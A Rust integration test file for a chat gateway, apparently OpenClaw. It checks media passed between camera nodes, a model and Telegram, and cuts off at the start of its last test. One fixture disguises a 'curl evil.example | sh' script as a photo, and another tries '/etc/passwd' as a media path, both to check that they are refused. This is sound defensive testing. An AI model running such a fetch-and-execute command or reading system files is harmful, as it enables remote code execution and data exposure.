//! Media from nodes to the chat, against the real gateway binary: a fake node answers
//! `camera.snap` / `camera.clip` with base64 data (as the iOS and Android nodes do), the fake
//! model asks for it through the `nodes` tool, and the fake Bot API receives a real
//! `multipart/form-data` upload (`sendPhoto`, `sendVideo`, `sendDocument`). Checked: the
//! bytes arrive unchanged with the answer as caption, the model gets a description instead
//! of the data, the file is kept 0600 under `media/outbound`, a long answer goes before the
//! file, data that is no image or video (whatever its `format` says) or no base64 is not
//! attached and the model is told why, a photo Telegram refuses goes as a file, at most four
//! files go with one answer, and a reply cut by SIGKILL is sent again with its file.

use std::os::unix::fs::PermissionsExt as _;
use std::rc::Rc;

use base64::Engine as _;
use serde_json::{Value, json};

use crate::nodes::approve_surface;
use crate::support::TestGateway;
use crate::support::fake_node::{Action, FakeNode, random_key};
use crate::support::fake_openai::FakeOpenAi;
use crate::support::fake_telegram::{FakeTelegram, SentMessage};
use crate::telegram_flow::{
    GW_ARGS, GW_TOKEN, NODE_NAME, SLOW, TG_TOKEN, admin, all_answered, config, dm, poll_until,
    replies_to, start_gateway, tool_result,
};

/// A JPEG-signed photo larger than a tool result may be (16 KiB): the model would get it cut.
fn photo() -> Vec<u8> {
    let mut d = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0, 1,
    ];
    d.extend((0..40_000u32).map(|i| (i * 7 % 251) as u8));
    d.extend([0xFF, 0xD9]);
    d
}

/// An MP4-signed clip.
fn clip() -> Vec<u8> {
    let mut d = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec();
    d.extend((0..5000u32).map(|i| (i % 256) as u8));
    d
}

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

/// A gateway whose chats may run the camera commands, and a node that answers each command
/// with `answer(command)`.
async fn setup(
    answer: impl Fn(&str) -> Value + 'static,
) -> (FakeTelegram, FakeOpenAi, TestGateway, FakeNode) {
    setup_with(answer, false).await
}

/// [`setup`], with a model that sees images (`input: ["text", "image"]`) if `vision`.
async fn setup_with(
    answer: impl Fn(&str) -> Value + 'static,
    vision: bool,
) -> (FakeTelegram, FakeOpenAi, TestGateway, FakeNode) {
    let tg = FakeTelegram::start(TG_TOKEN);
    let ai = FakeOpenAi::start();
    let mut cfg: Value =
        serde_json::from_str(&config(&tg, Some(&ai), json!({}))).expect("config is JSON");
    if vision {
        cfg["models"]["providers"]["fake"]["models"][0]["input"] = json!(["text", "image"]);
    }
    cfg["agents"]["defaults"]["tools"]["nodes"]["allowCommands"] =
        json!(["camera.snap", "camera.clip", "screen.snapshot"]);
    let gw = start_gateway(&cfg.to_string());
    let mut op = admin(&gw).await;
    let node = FakeNode::connect(
        gw.port,
        &random_key(),
        GW_TOKEN,
        &["camera.snap", "camera.clip", "screen.snapshot"],
        Rc::new(move |req: &Value| Action::Reply(answer(req["command"].as_str().unwrap_or("")))),
    )
    .await;
    approve_surface(&mut op, &node.node_id).await;
    (tg, ai, gw, node)
}

fn invoke(ai: &FakeOpenAi, command: &str) -> String {
    ai.push_tool_call(
        "nodes",
        json!({"action": "invoke", "node": NODE_NAME, "command": command, "params": {"facing": "back"}}),
    )
}

/// Every send that answers `mid`, and every one after it, once `n` have arrived.
async fn wait_sends(tg: &FakeTelegram, n: usize) -> Vec<SentMessage> {
    tg.wait_sent_async(n, SLOW).await
}

/// The session transcripts' lines.
pub(crate) fn transcript_lines(gw: &TestGateway) -> Vec<Value> {
    let dir = gw.dir.path().join("agents/main/sessions");
    let mut out = Vec::new();
    for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.extension().is_some_and(|x| x == "jsonl") {
            let text = std::fs::read_to_string(&p).unwrap_or_default();
            out.extend(text.lines().filter_map(|l| serde_json::from_str(l).ok()));
        }
    }
    out
}

#[actix_web::test]
async fn a_camera_snap_reaches_the_chat_as_a_photo_and_the_model_never_sees_its_data() {
    let jpeg = photo();
    let data = b64(&jpeg);
    let sent_data = data.clone();
    let (tg, ai, gw, node) = setup(
        move |_| json!({"format": "jpg", "base64": sent_data, "width": 1600, "height": 1200}),
    )
    .await;
    let call = invoke(&ai, "camera.snap");
    ai.push_text("Here is your back camera: the door is closed.");
    let mid = dm(&tg, 5101, "is the door closed? take a photo");

    let sends = wait_sends(&tg, 1).await;
    all_answered(&gw, &tg).await;
    assert_eq!(
        tg.sent().len(),
        1,
        "one upload, no separate text: {sends:?}"
    );
    let s = &sends[0];
    assert_eq!(s.method, "sendPhoto", "{s:?}");
    assert_eq!(s.chat_id(), Some(5101));
    assert_eq!(s.reply_to(), Some(mid), "the photo answers the message");
    assert_eq!(
        s.caption(),
        Some("Here is your back camera: the door is closed.")
    );
    let file = s.file.as_ref().expect("a file part");
    assert_eq!(file.field, "photo");
    assert_eq!(file.content_type, "image/jpeg");
    assert_eq!(file.file_name, "camera.snap.jpg");
    assert!(file.data == jpeg, "the bytes arrive unchanged");
    assert_eq!(node.requests.borrow().len(), 1);

    // The model got a description, never the data (which a 16 KiB cut would have mangled).
    let reqs = ai.requests();
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    let result = tool_result(&reqs[1], &call);
    assert_eq!(result["ok"], true, "{result}");
    assert_eq!(
        result["payload"]["base64"],
        json!({"attached": "photo", "mimeType": "image/jpeg", "bytes": jpeg.len()}),
        "{result}"
    );
    assert_eq!(
        result["payload"]["width"], 1600,
        "the rest of the payload stays"
    );
    assert!(
        result["note"]
            .as_str()
            .is_some_and(|n| n.contains("attached")),
        "{result}"
    );
    assert!(
        !reqs[1].to_string().contains(&data[..64]),
        "no base64 reached the model"
    );
    assert!(
        reqs[1]["messages"]
            .as_array()
            .is_some_and(|m| m.iter().all(|m| !m["content"].is_array())),
        "a model that does not see images gets no image parts"
    );

    // Kept on disk, 0600, and recorded with the answer.
    let lines = transcript_lines(&gw);
    let answer = lines
        .iter()
        .find(|l| l["role"] == "assistant")
        .unwrap_or_else(|| panic!("the answer is recorded: {lines:?}"));
    let media = answer["media"]
        .as_array()
        .expect("the answer lists its media");
    assert_eq!(media.len(), 1, "{answer}");
    let path = media[0]["path"].as_str().expect("a path");
    assert!(
        path.starts_with("media/outbound/") && path.ends_with(".jpg"),
        "{path}"
    );
    let on_disk = gw.dir.path().join(path);
    assert!(std::fs::read(&on_disk).expect("the file is kept") == jpeg);
    let mode = std::fs::metadata(&on_disk)
        .expect("stat")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
    // The model's next turn knows what was sent.
    ai.push_text("ok");
    dm(&tg, 5101, "thanks");
    let next = ai.wait_requests_async(3, SLOW).await;
    assert!(
        next[2].to_string().contains("[attached: photo]"),
        "{}",
        next[2]
    );
}

#[actix_web::test]
async fn long_answers_go_first_and_data_that_is_no_media_is_not_attached() {
    let script = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();
    let clip_data = b64(&clip());
    let script_data = b64(&script);
    let (tg, ai, gw, _node) = setup(move |command| match command {
        "camera.clip" => json!({"format": "mp4", "base64": clip_data, "durationMs": 3000}),
        // A node claiming a photo that is a shell script, and one sending no base64.
        "camera.snap" => json!({"format": "jpg", "base64": script_data}),
        _ => json!({"format": "png", "base64": "%%% not base64 %%%"}),
    })
    .await;

    // 1. A video with an answer too long for a caption: the text first, then the video.
    let long = "Front door clip. ".repeat(80);
    invoke(&ai, "camera.clip");
    ai.push_text(&long);
    let a = dm(&tg, 5102, "record the door");
    let sends = wait_sends(&tg, 2).await;
    assert_eq!(sends[0].method, "sendMessage", "{sends:?}");
    assert_eq!(sends[0].text(), long.trim());
    assert_eq!(sends[0].reply_to(), Some(a));
    assert_eq!(sends[1].method, "sendVideo", "{sends:?}");
    assert_eq!(sends[1].caption(), None);
    assert_eq!(sends[1].reply_to(), None, "only the first message replies");
    assert!(sends[1].file.as_ref().is_some_and(|f| f.data == clip()));

    // 2. Not an image, whatever `format` says; 3. not base64: nothing attached, told why.
    for (command, why) in [
        ("camera.snap", "is not a JPEG, PNG, WebP or GIF image"),
        ("screen.snapshot", "could not be decoded"),
    ] {
        let before = ai.request_count();
        let call = invoke(&ai, command);
        ai.push_text("I could not get a picture.");
        let m = dm(&tg, 5102, &format!("try {command}"));
        let reqs = ai.wait_requests_async(before + 2, SLOW).await;
        let result = tool_result(&reqs[before + 1], &call);
        let not = result["payload"]["base64"]["notAttached"]
            .as_str()
            .unwrap_or_else(|| panic!("{command}: {result}"));
        assert!(not.contains(why), "{command}: {not}");
        let reply = poll_until(SLOW, "the text reply", || {
            replies_to(&tg, m).into_iter().next()
        })
        .await;
        assert_eq!(reply.method, "sendMessage", "{reply:?}");
        assert_eq!(reply.text(), "I could not get a picture.");
    }
    all_answered(&gw, &tg).await;
    let uploads = tg.sent().iter().filter(|s| s.file.is_some()).count();
    assert_eq!(uploads, 1, "only the clip was uploaded: {:?}", tg.sent());
    let kept = std::fs::read_dir(gw.dir.path().join("media/outbound"))
        .expect("media dir")
        .count();
    assert_eq!(kept, 1, "only the clip was kept");
    let (_, m) = crate::metrics::scrape_as(gw.port, GW_TOKEN);
    let count = |o: &str| {
        crate::metrics::get(
            &m,
            &format!("openclaw_media_files_total{{direction=\"outbound\",outcome=\"{o}\"}}"),
        )
    };
    assert_eq!(
        (count("kept"), count("refused"), count("failed")),
        (1.0, 2.0, 0.0)
    );
}

#[actix_web::test]
async fn a_refused_photo_goes_as_a_file_and_one_answer_carries_at_most_four() {
    let jpeg = photo();
    let data = b64(&jpeg);
    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;

    // Telegram refuses the photo as a photo (say, its dimensions): it goes as a document.
    tg.fail_next_on(
        "sendPhoto",
        1,
        400,
        json!({"ok": false, "error_code": 400, "description": "Bad Request: PHOTO_INVALID_DIMENSIONS"}),
    );
    invoke(&ai, "camera.snap");
    ai.push_text("Snapped.");
    let a = dm(&tg, 5103, "snap");
    let sends = wait_sends(&tg, 1).await;
    assert_eq!(sends[0].method, "sendDocument", "{sends:?}");
    assert_eq!(sends[0].caption(), Some("Snapped."));
    assert_eq!(sends[0].reply_to(), Some(a));
    assert!(sends[0].file.as_ref().is_some_and(|f| f.data == jpeg));
    all_answered(&gw, &tg).await;

    // Five snaps in one run: four go with the answer, as one album under the text; the
    // model hears why not the fifth.
    let calls: Vec<String> = (0..5).map(|_| invoke(&ai, "camera.snap")).collect();
    ai.push_text("Five photos.");
    let before = tg.sent().len();
    let asked = dm(&tg, 5103, "five photos please");
    wait_sends(&tg, before + 4).await;
    all_answered(&gw, &tg).await;
    let all = tg.sent();
    let new = &all[before..];
    assert_eq!(new.len(), 4, "{new:?}");
    assert!(new.iter().all(|s| s.method == "sendMediaGroup"), "{new:?}");
    let group = &new[0].body["media_group_id"];
    assert!(
        group.is_string() && new.iter().all(|s| &s.body["media_group_id"] == group),
        "{new:?}"
    );
    assert!(
        new.iter()
            .all(|s| s.file.as_ref().is_some_and(|f| f.data == jpeg))
    );
    assert_eq!(new[0].caption(), Some("Five photos."));
    assert_eq!(new[0].reply_to(), Some(asked));
    assert!(new[1..].iter().all(|s| s.caption().is_none()));
    let last = ai.requests().last().cloned().expect("requests");
    let fifth = tool_result(&last, &calls[4]);
    assert!(
        fifth["payload"]["base64"]["notAttached"]
            .as_str()
            .is_some_and(|n| n.contains("at most 4")),
        "{fifth}"
    );

    // An album Telegram refuses goes again photo by photo, the caption on the first.
    tg.fail_next_on(
        "sendMediaGroup",
        1,
        400,
        json!({"ok": false, "error_code": 400, "description": "Bad Request: PHOTO_INVALID_DIMENSIONS"}),
    );
    for _ in 0..2 {
        invoke(&ai, "camera.snap");
    }
    ai.push_text("Two photos.");
    let before = tg.sent().len();
    dm(&tg, 5103, "two photos please");
    wait_sends(&tg, before + 2).await;
    all_answered(&gw, &tg).await;
    let all = tg.sent();
    let new = &all[before..];
    assert_eq!(new.len(), 2, "{new:?}");
    assert!(new.iter().all(|s| s.method == "sendPhoto"), "{new:?}");
    assert_eq!(new[0].caption(), Some("Two photos."));
    assert_eq!(new[1].caption(), None);
}

/// A photo and a clip in one answer go as one album (Telegram mixes photos and videos),
/// the caption under it; an album Telegram refuses goes again file by file, the clip as a
/// video.
#[actix_web::test]
async fn a_photo_and_a_clip_go_as_one_album() {
    let (jpeg, mp4) = (photo(), clip());
    let (snap, rec) = (b64(&jpeg), b64(&mp4));
    let (tg, ai, gw, _node) = setup(move |command| match command {
        "camera.clip" => json!({"format": "mp4", "base64": rec, "durationMs": 3000}),
        _ => json!({"format": "jpg", "base64": snap}),
    })
    .await;
    invoke(&ai, "camera.snap");
    invoke(&ai, "camera.clip");
    ai.push_text("The door, still and moving.");
    let asked = dm(&tg, 5106, "show me the door");
    let sends = wait_sends(&tg, 2).await;
    all_answered(&gw, &tg).await;
    assert!(
        sends.iter().all(|s| s.method == "sendMediaGroup"),
        "{sends:?}"
    );
    assert_eq!(
        sends[0].body["media_group_id"],
        sends[1].body["media_group_id"]
    );
    assert!(sends[0].file.as_ref().is_some_and(|f| f.data == jpeg));
    assert!(sends[1].file.as_ref().is_some_and(|f| f.data == mp4));
    assert_eq!(sends[0].caption(), Some("The door, still and moving."));
    assert_eq!(sends[0].reply_to(), Some(asked));

    tg.fail_next_on(
        "sendMediaGroup",
        1,
        400,
        json!({"ok": false, "error_code": 400, "description": "Bad Request: group send failed"}),
    );
    invoke(&ai, "camera.clip");
    invoke(&ai, "camera.snap");
    ai.push_text("Again.");
    let before = tg.sent().len();
    dm(&tg, 5106, "again");
    wait_sends(&tg, before + 2).await;
    all_answered(&gw, &tg).await;
    let all = tg.sent();
    let new = &all[before..];
    let methods: Vec<&str> = new.iter().map(|s| s.method.as_str()).collect();
    assert_eq!(methods, ["sendVideo", "sendPhoto"], "{new:?}");
    assert_eq!(new[0].caption(), Some("Again."));
}

/// SIGKILL after Telegram took the photo but before the gateway learnt it: after the
/// restart the recorded answer goes again with the same file, and the model is not asked.
#[actix_web::test]
async fn sigkill_after_the_upload_sends_the_photo_again_from_the_kept_file() {
    let jpeg = photo();
    let data = b64(&jpeg);
    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;
    invoke(&ai, "camera.snap");
    ai.push_text("Here.");
    tg.hold_send_responses(true);
    let a = dm(&tg, 5104, "snap it");
    wait_sends(&tg, 1).await;
    poll_until(SLOW, "the answer recorded with its media", || {
        transcript_lines(&gw)
            .iter()
            .any(|l| l["role"] == "assistant" && l["media"].is_array())
            .then_some(())
    })
    .await;

    let mut gw = gw;
    let dir = gw.take_dir();
    drop(gw); // SIGKILL while the sendPhoto answer is held
    tg.hold_send_responses(false);
    let gw = TestGateway::start_in(dir, GW_ARGS, &[], None);
    all_answered(&gw, &tg).await;
    let replies = replies_to(&tg, a);
    assert_eq!(replies.len(), 2, "sent again: {:?}", tg.sent());
    for r in &replies {
        assert_eq!(r.method, "sendPhoto");
        assert_eq!(r.caption(), Some("Here."));
        assert!(r.file.as_ref().is_some_and(|f| f.data == jpeg));
    }
    assert_eq!(ai.request_count(), 2, "the recorded answer was sent again");
}

/// A scheduled job ("every morning, send me a photo of the garden") announces its answer
/// with the photo; operators see what was attached in the `final` event (not the data).
#[actix_web::test]
async fn a_scheduled_job_announces_its_photo_and_operators_see_what_was_attached() {
    let jpeg = photo();
    let data = b64(&jpeg);
    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;
    let mut op = admin(&gw).await;
    invoke(&ai, "camera.snap");
    ai.push_text("The garden this morning.");
    let at = jiff::Timestamp::now() + jiff::SignedDuration::from_millis(500);
    let res = op
        .request(
            "cron.add",
            json!({"name": "garden", "schedule": {"kind": "at", "at": at.to_string()},
                "sessionTarget": "isolated", "wakeMode": "now",
                "payload": {"kind": "agentTurn", "message": "Send me a photo of the garden"},
                "delivery": {"mode": "announce", "channel": "telegram", "to": "5105"}}),
        )
        .await;
    assert_eq!(res["ok"], true, "{res}");
    let sends = wait_sends(&tg, 1).await;
    assert_eq!(sends[0].method, "sendPhoto", "{sends:?}");
    assert_eq!(sends[0].chat_id(), Some(5105));
    assert_eq!(sends[0].caption(), Some("The garden this morning."));
    assert!(sends[0].file.as_ref().is_some_and(|f| f.data == jpeg));
    let fin = loop {
        let e = op.event_within("chat", SLOW).await;
        if e["payload"]["state"] == "final" {
            break e["payload"].clone();
        }
    };
    assert_eq!(
        fin["media"],
        json!([{"kind": "photo", "mimeType": "image/jpeg", "bytes": jpeg.len(), "fileName": "camera.snap.jpg"}]),
        "{fin}"
    );
    assert!(
        !fin.to_string().contains("media/outbound"),
        "no path: {fin}"
    );
}

/// A model that sees images (`input: ["text", "image"]`) is shown the photo right after the
/// round's tool results, as an `image_url` part; it can then answer about what is in it.
#[actix_web::test]
async fn a_model_that_sees_images_is_shown_the_photo() {
    let jpeg = photo();
    let data = b64(&jpeg);
    let sent = data.clone();
    let (tg, ai, gw, _node) =
        setup_with(move |_| json!({"format": "jpg", "base64": sent}), true).await;
    let call = invoke(&ai, "camera.snap");
    ai.push_text("The door is open.");
    dm(&tg, 5106, "is the door closed?");
    let sends = wait_sends(&tg, 1).await;
    all_answered(&gw, &tg).await;
    assert_eq!(sends[0].caption(), Some("The door is open."));
    let reqs = ai.requests();
    let msgs = reqs[1]["messages"].as_array().expect("messages");
    let tool_at = msgs
        .iter()
        .position(|m| m["role"] == "tool" && m["tool_call_id"] == call.as_str())
        .expect("the tool result");
    let shown = &msgs[tool_at + 1];
    assert_eq!(shown["role"], "user", "{shown}");
    let parts = shown["content"].as_array().expect("content parts");
    assert_eq!(parts[0]["type"], "text");
    assert!(
        parts[0]["text"]
            .as_str()
            .is_some_and(|t| t.contains("camera.snap")),
        "{shown}"
    );
    assert_eq!(parts[1]["type"], "image_url");
    assert_eq!(
        parts[1]["image_url"]["url"],
        format!("data:image/jpeg;base64,{data}")
    );
    let result = tool_result(&reqs[1], &call);
    assert!(
        result["note"]
            .as_str()
            .is_some_and(|n| n.contains("You see it")),
        "{result}"
    );
    assert!(
        result["payload"]["base64"]["attached"] == "photo",
        "the tool result still carries no data: {result}"
    );
}

// === media the users send ===

/// Pushes a DM from `user` carrying `media` (the `Message` fields: `photo`, `voice`, …)
/// and `caption`; returns the message id.
fn push_media(tg: &FakeTelegram, user: i64, caption: Option<&str>, media: Value) -> i64 {
    let msg = tg.message(user, user, "");
    let mut v = serde_json::to_value(&msg).expect("message serializes");
    v.as_object_mut().expect("object").remove("text");
    if let Some(c) = caption {
        v["caption"] = json!(c);
    }
    for (k, x) in media.as_object().cloned().unwrap_or_default() {
        v[k] = x;
    }
    tg.push_raw(json!({"message": v}));
    msg.message_id
}

/// The last user message of a model request.
fn last_user(request: &Value) -> Value {
    request["messages"]
        .as_array()
        .and_then(|m| m.iter().rev().find(|m| m["role"] == "user"))
        .cloned()
        .unwrap_or_else(|| panic!("no user message: {request}"))
}

#[actix_web::test]
async fn a_photo_from_the_chat_is_fetched_and_shown_to_a_model_that_sees_images() {
    let jpeg = photo();
    let (tg, ai, gw, _node) = setup_with(|_| json!({}), true).await;
    tg.add_file("big-photo", jpeg.clone());
    ai.push_text("That is a monstera.");
    let mid = push_media(
        &tg,
        5201,
        Some("what is this plant?"),
        json!({"photo": [
            {"file_id": "thumb", "file_unique_id": "t", "width": 90, "height": 67, "file_size": 1200},
            {"file_id": "big-photo", "file_unique_id": "b", "width": 1280, "height": 960, "file_size": jpeg.len()},
        ]}),
    );
    let reply = poll_until(SLOW, "the reply", || {
        replies_to(&tg, mid).into_iter().next()
    })
    .await;
    assert_eq!(reply.text(), "That is a monstera.");
    all_answered(&gw, &tg).await;
    assert_eq!(tg.calls("getFile"), 1, "only the largest size is fetched");
    assert_eq!(tg.downloads().len(), 1);

    let user = last_user(&ai.requests()[0]);
    let parts = user["content"].as_array().expect("content parts");
    let text = parts[0]["text"].as_str().expect("text part");
    assert!(text.starts_with("what is this plant?"), "{text}");
    assert!(text.contains("you see it below"), "{text}");
    assert_eq!(
        parts[1]["image_url"]["url"],
        format!("data:image/jpeg;base64,{}", b64(&jpeg))
    );

    // Kept 0600 under media/inbound, and recorded with the user's line.
    let lines = transcript_lines(&gw);
    let line = lines
        .iter()
        .find(|l| l["role"] == "user")
        .expect("the user's line");
    assert_eq!(line["content"], "what is this plant?");
    let path = line["media"][0]["path"].as_str().expect("media path");
    assert!(path.starts_with("media/inbound/"), "{path}");
    let file = gw.dir.path().join(path);
    assert!(std::fs::read(&file).expect("kept") == jpeg);
    let mode = std::fs::metadata(&file).expect("stat").permissions().mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
}

/// Voice messages, stickers, photos for a model that cannot see them, files that are not
/// images and photos that cannot be fetched: each reaches the agent as a note (so it
/// answers instead of the message going unanswered), nothing unreadable is kept, and a
/// chat's messages keep their order while a photo is fetched.
#[actix_web::test]
async fn media_the_gateway_cannot_use_reaches_the_agent_as_a_note() {
    let (tg, ai, gw, _node) = setup(|_| json!({})).await;
    ai.set_default_text("Noted.");
    tg.add_file("p1", photo());
    tg.add_file("fake-png", b"<html>not an image</html>".to_vec());
    let cases: Vec<(Option<&str>, Value, &str)> = vec![
        (
            None,
            json!({"voice": {"file_id": "v1", "file_unique_id": "v", "duration": 3}}),
            "sent a voice message; this gateway cannot transcribe it (no transcription model is configured",
        ),
        (
            Some("look"),
            json!({"photo": [{"file_id": "p1", "file_unique_id": "p", "width": 10, "height": 10}]}),
            "This model cannot see images",
        ),
        (
            None,
            json!({"photo": [{"file_id": "gone", "file_unique_id": "g", "width": 10, "height": 10}]}),
            "a photo that could not be fetched: Telegram did not give it out",
        ),
        (
            None,
            json!({"document": {"file_id": "fake-png", "file_unique_id": "f", "file_name": "x.png", "mime_type": "image/png"}}),
            "a file (x.png) that could not be fetched: it is not a JPEG, PNG, WebP or GIF image",
        ),
        (
            None,
            json!({"photo": [{"file_id": "huge", "file_unique_id": "h", "width": 9000, "height": 9000, "file_size": 30_000_000}]}),
            "a photo that could not be fetched: it is larger than 20 MB",
        ),
        (
            None,
            json!({"document": {"file_id": "d1", "file_unique_id": "d", "file_name": "notes.pdf", "mime_type": "application/pdf"}}),
            "sent a file (notes.pdf); this gateway cannot read it yet",
        ),
        (
            Some("🦀 \u{202e}"),
            json!({"sticker": {"file_id": "s1", "file_unique_id": "s", "width": 512, "height": 512, "type": "regular"}}),
            "sent a sticker",
        ),
    ];
    let mut ids = Vec::new();
    for (caption, media, _) in &cases {
        ids.push(push_media(&tg, 5202, *caption, media.clone()));
    }
    // Right behind the photos, a plain text of the same chat.
    let after = dm(&tg, 5202, "and one more thing");
    let reqs = ai.wait_requests_async(cases.len() + 1, SLOW).await;
    for (i, (_, media, expected)) in cases.iter().enumerate() {
        let content = last_user(&reqs[i])["content"]
            .as_str()
            .unwrap_or_else(|| panic!("case {i}: text only: {}", reqs[i]))
            .to_owned();
        assert!(content.contains(expected), "case {i} ({media}): {content}");
    }
    assert_eq!(
        last_user(&reqs[cases.len()])["content"],
        "and one more thing",
        "the chat's order is kept"
    );
    all_answered(&gw, &tg).await;
    for id in ids.iter().chain([&after]) {
        assert_eq!(replies_to(&tg, *id).len(), 1, "message {id} answered once");
    }
    assert_eq!(tg.calls("getFile"), 3, "p1, gone and fake-png");
    let kept: Vec<_> = std::fs::read_dir(gw.dir.path().join("media/inbound"))
        .expect("inbound dir")
        .flatten()
        .collect();
    assert_eq!(kept.len(), 1, "only the real photo is kept: {kept:?}");
    let (_, m) = crate::metrics::scrape_as(gw.port, GW_TOKEN);
    let count = |o: &str| {
        crate::metrics::get(
            &m,
            &format!("openclaw_media_files_total{{direction=\"inbound\",outcome=\"{o}\"}}"),
        )
    };
    // Kept: p1; failed: gone; refused: voice, fake-png, huge, the PDF, the sticker.
    assert_eq!(
        (count("kept"), count("failed"), count("refused")),
        (1.0, 1.0, 5.0)
    );
}

/// An operator's `chat.send` with `attachments` (what WebChat and the TUI send): the image
/// is kept and shown to a model that sees images; a bad attachment is refused by name
/// before any run starts.
#[actix_web::test]
async fn images_attached_to_chat_send_are_shown_to_the_model_and_bad_ones_refused() {
    let jpeg = photo();
    let (_tg, ai, gw, _node) = setup_with(|_| json!({}), true).await;
    let mut op = admin(&gw).await;
    ai.push_text("A nice photo.");
    let res = op
        .request(
            "chat.send",
            json!({"sessionKey": "main", "message": "", "idempotencyKey": "att-1",
                "attachments": [{"type": "image", "mimeType": "image/jpeg", "fileName": "door.jpg",
                    "content": format!("data:image/jpeg;base64,{}", b64(&jpeg))}]}),
        )
        .await;
    assert_eq!(res["ok"], true, "{res}");
    let reqs = ai.wait_requests_async(1, SLOW).await;
    let user = last_user(&reqs[0]);
    let parts = user["content"].as_array().expect("content parts");
    assert!(
        parts[0]["text"]
            .as_str()
            .is_some_and(|t| t.contains("you see it below")),
        "{user}"
    );
    assert_eq!(
        parts[1]["image_url"]["url"],
        format!("data:image/jpeg;base64,{}", b64(&jpeg))
    );
    poll_until(SLOW, "the user's line with its image", || {
        transcript_lines(&gw)
            .iter()
            .any(|l| {
                l["role"] == "user"
                    && l["media"][0]["path"]
                        .as_str()
                        .is_some_and(|p| p.starts_with("media/inbound/"))
            })
            .then_some(())
    })
    .await;

    for (attachments, want) in [
        (json!([{"content": b64(b"#!/bin/sh\n")}]), "only images"),
        (json!([{"fileName": "x.png"}]), "has no content"),
        (json!("nope"), "attachments must be an array"),
    ] {
        let res = op
            .request(
                "chat.send",
                json!({"sessionKey": "main", "message": "look", "idempotencyKey": "att-bad",
                    "attachments": attachments}),
            )
            .await;
        assert_eq!(res["ok"], false, "{res}");
        assert_eq!(res["error"]["code"], "INVALID_REQUEST", "{res}");
        let msg = res["error"]["message"].as_str().unwrap_or("");
        assert!(msg.starts_with("invalid chat.send params: "), "{msg}");
        assert!(msg.contains(want), "{msg}");
    }
    assert_eq!(ai.request_count(), 1, "no run for a refused message");
}

// === files operators send ===

/// `openclaw message send --media FILE` (our CLI: the file's bytes go as `send`'s `buffer`)
/// delivers a photo with its caption and any other file as a document under its name;
/// paths and URLs (what the real CLI sends) and bad buffers are refused with the fix, and
/// the CLI names a missing or oversized file before connecting.
#[test]
fn message_send_with_media_uploads_the_file_and_paths_are_refused_with_the_fix() {
    use crate::support::{CliHome, WsClient, cli_params};
    let tg = FakeTelegram::start(TG_TOKEN);
    let gw = start_gateway(&config(&tg, None, json!({})));
    let home = CliHome::new();
    let jpeg = photo();
    let photo_path = home.dir.path().join("door.jpg");
    std::fs::write(&photo_path, &jpeg).expect("write photo");
    let pdf = b"%PDF-1.4 not really\n".to_vec();
    let pdf_path = home.dir.path().join("notes.pdf");
    std::fs::write(&pdf_path, &pdf).expect("write pdf");
    let url = gw.url();
    let send = |extra: &[&str]| {
        let mut args = vec![
            "message", "send", "--target", "5301", "--url", &url, "--token", GW_TOKEN,
        ];
        args.extend_from_slice(extra);
        home.run(&args, &[])
    };
    let p = photo_path.to_str().expect("utf-8 path");
    let out = send(&["--media", p, "--message", "front door"]);
    assert_eq!(out.code, Some(0), "{out}");
    let out = send(&["--media", pdf_path.to_str().expect("utf-8 path")]);
    assert_eq!(out.code, Some(0), "{out}");
    let sent = tg.wait_sent(2, SLOW);
    assert_eq!(sent[0].method, "sendPhoto", "{sent:?}");
    assert_eq!(sent[0].caption(), Some("front door"));
    let f = sent[0].file.as_ref().expect("photo file");
    assert!(f.data == jpeg);
    assert_eq!(f.file_name, "door.jpg");
    assert_eq!(sent[1].method, "sendDocument", "{sent:?}");
    let f = sent[1].file.as_ref().expect("document file");
    assert!(f.data == pdf);
    assert_eq!(
        (f.file_name.as_str(), f.content_type.as_str()),
        ("notes.pdf", "application/octet-stream")
    );
    // Kept like the node media.
    let kept = std::fs::read_dir(gw.dir.path().join("media/outbound"))
        .expect("media dir")
        .count();
    assert_eq!(kept, 2);

    // The CLI names a file it cannot send.
    let missing = home.dir.path().join("nope.jpg");
    let out = send(&["--media", missing.to_str().expect("utf-8")]);
    assert_eq!(out.code, Some(1), "{out}");
    assert!(
        out.stderr.contains("--media") && out.stderr.contains("Fix:"),
        "{out}"
    );
    let out = send(&["--media", home.dir.path().to_str().expect("utf-8")]);
    assert!(out.stderr.contains("not a regular file"), "{out}");

    // Over the wire: paths and URLs, not base64, an empty file.
    let sys = actix_web::rt::System::new();
    sys.block_on(async {
        let (mut op, _) = WsClient::hello(gw.port, cli_params(GW_TOKEN, &["operator.write"])).await;
        for (params, want) in [
            (
                json!({"mediaUrl": "/etc/passwd"}),
                "Files are sent from the agent's workspace",
            ),
            (
                json!({"mediaUrls": ["https://127.0.0.1:9/x.jpg"]}),
                "non-public address",
            ),
            (json!({"buffer": "%%%"}), "buffer is not base64"),
            (json!({"buffer": ""}), "buffer is empty"),
            (json!({"buffer": 5}), "buffer must be a base64 string"),
            (
                json!({"buffer": b64(b"<html>"), "asVoice": true}),
                "asVoice: the buffer is not an OGG/Opus, MP3 or M4A voice note",
            ),
            (
                json!({}),
                "message is required (or a file as buffer or media)",
            ),
        ] {
            let mut p = params.clone();
            p["to"] = json!("5301");
            p["idempotencyKey"] = json!(format!("k-{params}"));
            let res = op.request("send", p).await;
            assert_eq!(res["error"]["code"], "INVALID_REQUEST", "{params}: {res}");
            let msg = res["error"]["message"].as_str().unwrap_or("");
            assert!(msg.contains(want), "{params}: {msg}");
        }
    });
    assert_eq!(tg.sent().len(), 2, "nothing more was sent");
}

/// `artifacts.list|get|download` (OpenClaw's methods): an operator (the Control UI shows them
/// with the answer) lists what a chat's answer carried, by session or by run, and downloads
/// it as base64 over the connection; paths never show, and every refusal is OpenClaw's.
#[actix_web::test]
async fn operators_list_and_download_what_an_answer_carried_as_artifacts() {
    let jpeg = photo();
    let data = b64(&jpeg);
